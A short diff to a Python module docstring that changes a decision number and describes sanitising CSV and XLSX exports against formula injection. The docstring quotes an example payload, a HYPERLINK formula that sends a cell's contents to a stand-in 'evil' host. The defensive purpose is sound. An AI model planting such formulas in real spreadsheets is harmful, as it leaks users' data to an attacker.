@@ -1,5 +1,5 @@
 """Every CSV and XLSX the platform writes goes through here, so that no cell is a formula
-(decision 0029).
+(decision 0030).
 
 A spreadsheet program runs a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
 or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a plan
